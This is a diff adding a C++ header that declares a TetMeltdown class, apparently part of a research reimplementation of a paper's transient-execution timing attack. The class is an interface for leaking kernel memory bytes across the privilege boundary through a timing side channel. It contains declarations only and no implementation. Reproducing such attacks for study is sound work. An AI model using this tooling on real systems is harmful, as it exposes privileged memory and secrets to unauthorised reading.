@@ -1,0 +1,51 @@
+// TET-Meltdown (paper §4.3.1): leak kernel memory across the privilege
+// boundary, transmitting each byte over the Whisper channel — the secret-
+// equality Jcc inside the transient window lengthens ToTE when it triggers,
+// and the batch-argmax of ToTE recovers the byte.
+#pragma once
+
+#include <cstdint>
+#include <optional>
+#include <span>
+#include <vector>
+
+#include "core/analyzer.h"
+#include "core/attacks/common.h"
+#include "core/gadgets.h"
+#include "os/machine.h"
+
+namespace whisper::core {
+
+class TetMeltdown {
+ public:
+  struct Options {
+    int batches = 6;                      // argmax votes per byte
+    std::optional<WindowKind> window;     // default: TSX if available
+  };
+
+  explicit TetMeltdown(os::Machine& m) : TetMeltdown(m, Options{}) {}
+  TetMeltdown(os::Machine& m, Options opt);
+
+  /// Leak one byte at the kernel virtual address.
+  [[nodiscard]] std::uint8_t leak_byte(std::uint64_t kvaddr);
+  /// Leak `len` consecutive bytes.
+  [[nodiscard]] std::vector<std::uint8_t> leak(std::uint64_t kvaddr,
+                                               std::size_t len);
+
+  [[nodiscard]] const AttackStats& stats() const noexcept { return stats_; }
+  /// Analysis state of the most recent leak_byte (for Fig. 1b-style plots).
+  [[nodiscard]] const ArgmaxAnalyzer& last_analysis() const noexcept {
+    return analyzer_;
+  }
+  [[nodiscard]] WindowKind window() const noexcept { return window_; }
+
+ private:
+  os::Machine& m_;
+  Options opt_;
+  WindowKind window_;
+  GadgetProgram gadget_;
+  ArgmaxAnalyzer analyzer_{Polarity::Max};
+  AttackStats stats_;
+};
+
+}  // namespace whisper::core
